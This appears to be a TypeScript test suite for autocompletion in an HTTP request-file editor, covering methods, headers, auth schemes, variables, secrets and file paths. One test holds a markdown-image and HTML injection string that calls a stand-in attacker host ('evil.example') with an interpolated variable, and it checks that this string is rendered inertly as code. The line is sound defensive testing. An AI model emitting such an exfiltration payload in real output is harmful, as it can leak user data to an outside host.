import assert from 'node:assert/strict';
import { schemes } from '../../../src/auth/schemes/index.ts';
import { statementProblems } from '../../../src/auth/values.ts';
import type { VariableLayer } from '../../../src/core/variable-layer.ts';
import { authSnippet } from '../../../src/features/completion/auth-snippet.ts';
import { complete } from '../../../src/features/completion/completion.ts';
import type { CompletionItem } from '../../../src/features/completion/completion-item.ts';
import { headerFields } from '../../../src/features/completion/header-fields.ts';
import { applyEdits } from '../../../src/language/incremental.ts';
import { parse } from '../../../src/language/parser.ts';
import { layer, ports } from '../../core/variables-setup.ts';
import { documentAt } from '../marked-documents.ts';

const folders: Record<string, { name: string; folder: boolean }[]> = {
  '.': [
    { name: 'bodies', folder: true },
    { name: 'key.pem', folder: false },
    { name: '.git', folder: true },
  ],
  './bodies/': [{ name: 'user.json', folder: false }],
};

async function at(
  marked: string,
  others: Record<string, string> = {},
  environment: readonly VariableLayer[] = [],
): Promise<readonly CompletionItem[]> {
  const { file, tree, offset, scopes } = await documentAt(marked, others);
  return complete({ file, tree, scopes: scopes.scopes, environment, ports: ports() }, offset, {
    secretNames: () => ['acme-key', 'other'],
    tokenNames: async () => ['demo', 'my token'],
    listFolder: async path => folders[path] ?? [],
  });
}

const labels = (items: readonly CompletionItem[]): string[] => items.map(({ label }) => label);

/** The text after an item was chosen; a snippet’s placeholders with what they propose. */
async function chosen(marked: string, label: string, others: Record<string, string> = {}): Promise<string> {
  const item = (await at(marked, others)).find(found => found.label === label);
  assert.ok(item, `${label} is offered`);
  const text = item.snippet ? filled(item.insert) : item.insert;
  return applyEdits(marked.replace('|', ''), [{ start: item.start, end: item.end, text }]);
}

function filled(snippet: string): string {
  return snippet
    .replace(/\$\{\d+\|([^,|]*)[^}]*\|\}/g, '$1')
    .replace(/\$\{\d+:((?:\\.|[^}\\])*)\}/g, '$1')
    .replace(/\\(.)/g, '$1');
}

folders['./'] = folders['.'] ?? [];

describe('Completion', () => {
  it('documents a variable by its text as code, whatever that holds', async () => {
    const items = await at('@b = 1\n@a = `![x](https://evil.example/{{b}})<img src=x>\n\n### T\nGET /{{|}}');
    const documentation = items.find(({ label }) => label === 'a')?.documentation;
    assert.equal(documentation, '`` `![x](https://evil.example/{{b}})<img src=x> ``');
  });

  const cases: [marked: string, label: string, result: string][] = [
    ['|', 'GET', 'GET '],
    ['po|', 'POST', 'POST '],
    ['### T\n|', 'DELETE', '### T\nDELETE '],
    ['GET /x\n|', 'Accept', 'GET /x\nAccept: '],
    ['GET /x\nAcc|\n\nbody', 'Accept-Language', 'GET /x\nAccept-Language: \n\nbody'],
    ['GET /x\nCont|: a', 'Content-Type', 'GET /x\nContent-Type: a'],
    ['GET /x\nContent-Type: |', 'application/json', 'GET /x\nContent-Type: application/json'],
    ['GET /x\nContent-Type:|', 'application/json', 'GET /x\nContent-Type: application/json'],
    ['GET /x\nContent-Type: app|lication/xml', 'text/csv', 'GET /x\nContent-Type: text/csv'],
    ['GET /x\nAccept: text/html, app|', 'application/json', 'GET /x\nAccept: text/html, application/json'],
    ['GET /x HTTP/1|', 'HTTP/2', 'GET /x HTTP/2'],
    ['@host = h\nGET /{{%ho|}}', 'host', '@host = h\nGET /{{%host}}'],
    ['@host = h\nGET /{{%|', 'host', '@host = h\nGET /{{%host}}'],
    ['# @name log\nGET /\n\n###\nGET /{{%log.|}}', 'response', '# @name log\nGET /\n\n###\nGET /{{%log.response.}}'],
    ['# @|\nGET /x', 'timeout', '# @timeout \nGET /x'],
    ['# @no-r|\nGET /x', 'no-redirect', '# @no-redirect\nGET /x'],
    ['# @timeout |\nGET /x', '10 s', '# @timeout 10 s\nGET /x'],
    ['# @auth |\nGET /x', 'basic', '# @auth basic\nGET /x'],
    ['# @auth |\nGET /x', 'none', '# @auth none\nGET /x'],
    ['# @auth ba| username=a\nGET /x', 'bearer', '# @auth bearer username=a\nGET /x'],
    ['# @auth basic |', 'password', '# @auth basic password='],
    ['# @auth basic us|', 'username', '# @auth basic username='],
    ['# @auth oauth2\n#   gr|\nGET /x', 'grantType', '# @auth oauth2\n#   grantType = \nGET /x'],
    [
      '# @auth oauth2\n#   grantType = |\nGET /x',
      'client_credentials',
      '# @auth oauth2\n#   grantType = client_credentials\nGET /x',
    ],
    ['# @auth apikey in=|', 'query', '# @auth apikey in=query'],
    ['# @auth apikey in=he| key=x', 'cookie', '# @auth apikey in=cookie key=x'],
    ['# @auth oauth1 includeBodyHash=|', 'true', '# @auth oauth1 includeBodyHash=true'],
    ['# @auth bearer token=|', '{{$secret acme-key}}', '# @auth bearer token={{$secret acme-key}}'],
    ['# @auth bearer token={{$secret |}}', 'other', '# @auth bearer token={{$secret other}}'],
    ['# @auth bearer token={{$secret ac|', 'acme-key', '# @auth bearer token={{$secret acme-key}}'],
    ['# @auth bearer token={{$token |}}', 'demo', '# @auth bearer token={{$token demo}}'],
    ['# @auth bearer token="{{$token my|', 'my token', '# @auth bearer token="{{$token my token}}'],
    ['@base = https://h\n\n###\nGET {{|}}/x', 'base', '@base = https://h\n\n###\nGET {{base}}/x'],
    ['@base = https://h\n\n###\nGET {{ba|', 'base', '@base = https://h\n\n###\nGET {{base}}'],
    ['GET /x\n\n{"id": "{{$gu|}}"}', '$guid', 'GET /x\n\n{"id": "{{$guid}}"}'],
    ['GET /{{$random.i|}}', '$random.integer', 'GET /{{$random.integer(from, to)}}'],
    ['GET /{{$|', '$secret', 'GET /{{$secret '],
    ['GET /{{log|}}\n###\n# @name login\nGET /', 'login', 'GET /{{login.}}\n###\n# @name login\nGET /'],
    ['GET /{{login.|}}\n###\n# @name login\nGET /', 'response', 'GET /{{login.response.}}\n###\n# @name login\nGET /'],
    [
      'GET /{{login.response.bo|\n###\n# @name login\nGET /',
      'body',
      'GET /{{login.response.body.\n###\n# @name login\nGET /',
    ],
    [
      'GET /{{login.response.headers.|}}\n###\n# @name login\nGET /',
      'Location',
      'GET /{{login.response.headers.Location}}\n###\n# @name login\nGET /',
    ],
    ['POST /x\n\n< |', 'bodies/', 'POST /x\n\n< ./bodies/'],
    ['POST /x\n\n< ./bodies/us|', 'user.json', 'POST /x\n\n< ./bodies/user.json'],
    ['POST /x\n\n<@ ./|', 'key.pem', 'POST /x\n\n<@ ./key.pem'],
    ['# @auth jwt\n#   privateKey = < |\nGET /', 'key.pem', '# @auth jwt\n#   privateKey = < ./key.pem\nGET /'],
    ['GET htt|\n###\nGET https://h/users?a=1', 'https://h/users', 'GET https://h/users\n###\nGET https://h/users?a=1'],
  ];
  for (const [marked, label, result] of cases) {
    it(`offers ${label} in ${JSON.stringify(marked)}`, async () => assert.equal(await chosen(marked, label), result));
  }

  const nothing = ['# plain |', 'POST /x\n\n{"a": |}', 'GET /x\n\n> {%\n|\n%}', '### Ti|', 'GET /x\n\n\n|', '@a = |'];
  for (const marked of nothing) {
    it(`offers nothing in ${JSON.stringify(marked)}`, async () => assert.deepEqual(labels(await at(marked)), []));
  }

  it('offers the fields not yet given, required ones first, and only those that count', async () => {
    assert.deepEqual(labels(await at('# @auth apikey |')), ['key', 'value', 'in']);
    assert.deepEqual(labels(await at('# @auth apikey key=a |')), ['value', 'in']);
    const offered = labels(await at('# @auth oauth2 grantType=client_credentials |'));
    assert.ok(offered.includes('tokenUrl') && !offered.includes('authUrl'), offered.join());
  });

  it('says what a field is for, its choices and its default', async () => {
    const [item] = (await at('# @auth apikey |')).filter(({ label }) => label === 'in');
    assert.match(item?.documentation ?? '', /Where the key is sent/);
    assert.match(item?.documentation ?? '', /`header` \(default\)/);
  });

  it('shows the value of a variable and where it comes from, and never a secret one', async () => {
    const others = { 'folder.http': '@a = {{b}}!\n' };
    const environment = [
      layer('environment', { b: 'two' }),
      layer('environment', { password: 'Hush4Secret' }, { secret: true }),
    ];
    const items = await at('GET /{{|}}', others, environment);
    assert.equal(items.find(({ label }) => label === 'a')?.detail, 'two! · folder');
    assert.equal(items.find(({ label }) => label === 'password')?.detail, '••• · environment');
    assert.ok(!JSON.stringify(items).includes('Hush4Secret'));
  });

  it('leaves out the headers and directives that are there', async () => {
    assert.ok(!labels(await at('GET /x\nAccept: a\n|')).includes('Accept'));
    assert.ok(!labels(await at('# @timeout 3 s\n# @|\nGET /x')).includes('timeout'));
  });

  for (const scheme of schemes) {
    for (const mark of ['#', '//']) {
      it(`has a snippet for ${scheme.id} after “${mark}” that is a valid statement`, async () => {
        const marked = `### T\n${mark} @auth |\nGET https://h\n`;
        const [placed] = parse(await chosen(marked, `${scheme.id} …`)).blocks;
        const auth = placed?.block.auth;
        assert.ok(auth && placed.block.request);
        assert.equal(auth.scheme.text, scheme.id);
        const place = { file: '', line: 1 };
        const problems = statementProblems({
          scheme: scheme.id,
          place,
          fields: auth.fields.map(({ name, value, fromFile }) => ({
            name: name.text,
            value: value.text,
            fromFile,
            place,
          })),
        });
        assert.deepEqual(
          [...problems, ...placed.block.diagnostics].filter(({ severity }) => severity === 'error'),
          [],
          authSnippet(scheme, mark),
        );
        const required = scheme.fields.filter(field => field.required && !field.when).map(({ name }) => name);
        for (const name of required)
          assert.ok(
            auth.fields.some(field => field.name.text === name),
            name,
          );
      });
    }
  }
});

describe('The table of headers', () => {
  it('is sorted, complete and without doubles', () => {
    const names = headerFields.map(({ name }) => name);
    assert.equal(new Set(names.map(name => name.toLowerCase())).size, names.length);
    for (const { name, help, specification } of headerFields) {
      assert.match(name, /^[A-Za-z][A-Za-z0-9-]*$/);
      assert.match(help, /^\S.*\.$/, name);
      assert.match(specification, /^https:\/\//, name);
    }
  });
});
